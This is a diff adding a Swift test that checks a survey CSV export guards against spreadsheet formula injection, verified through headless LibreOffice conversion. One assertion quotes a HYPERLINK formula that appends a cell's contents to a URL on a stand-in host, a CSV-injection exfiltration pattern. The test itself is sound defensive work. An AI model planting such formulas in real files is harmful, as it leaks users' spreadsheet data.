@@ -1,4 +1,5 @@
 import CSVCodec
+import Foundation
 import SurveyModel
 import SyntheticResponses
 import Testing
@@ -45,5 +46,38 @@ struct ExportFormulaTests {
         let text = String(decoding: bytes, as: UTF8.self)
         #expect(text.contains("\r\n\"'=1+1\";"))
         #expect(text.contains(";-3,5;"))
+    }
+}
+
+extension ExportFormulaTests {
+    /// LibreOffice Calc opens the export for German Excel and finds no formula in it, while it does run
+    /// the same kind of text in a file that is not guarded (so this test can tell the difference).
+    @Test func libreOfficeShowsTextNotFormulas() throws {
+        let folder = NSTemporaryDirectory() + "export-calc-\(UUID().uuidString)"
+        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(atPath: folder) }
+        let survey = try SurveyEvaluationTests.survey()
+        let layout = ExportLayout(survey: survey, language: "de")
+        let rows = Self.formulas.map { formula in
+            var answers = Answers()
+            answers["schulname"] = .text(formula)
+            answers["schueler"] = .number(-3.5)
+            return layout.cells(answers, labels: false, decimalComma: true)
+        }
+        let guarded = CSVWriter.excel.write(header: layout.columns.map(\.name), rows: rows)
+        try Data(guarded).write(to: URL(fileURLWithPath: folder + "/guarded.csv"))
+        try Data("\u{FEFF}schulname;schueler\r\n=1+1;-3,5\r\n".utf8).write(to: URL(fileURLWithPath: folder + "/raw.csv"))
+        // Semicolon, double quote, UTF-8, from line 1, German number format; into flat ODS, which is plain XML.
+        let status = try InstalledTool.libreOffice.run([
+            "-env:UserInstallation=file://\(folder)/profile", "--headless", "--infilter=CSV:59,34,76,1,,1031",
+            "--convert-to", "fods", "--outdir", folder, folder + "/guarded.csv", folder + "/raw.csv",
+        ])
+        guard status != nil else { return }
+        let sheet = try String(contentsOfFile: folder + "/guarded.fods", encoding: .utf8)
+        let raw = try String(contentsOfFile: folder + "/raw.fods", encoding: .utf8)
+        #expect(raw.contains("table:formula=\"of:=1+1\""), "LibreOffice no longer runs formulas from CSV files")
+        #expect(!sheet.contains("table:formula"))
+        #expect(sheet.contains("&apos;=HYPERLINK(&quot;https://example.org/?&quot;&amp;A1;"))
+        #expect(sheet.components(separatedBy: "office:value-type=\"float\" office:value=\"-3.5\"").count - 1 == rows.count)
     }
 }
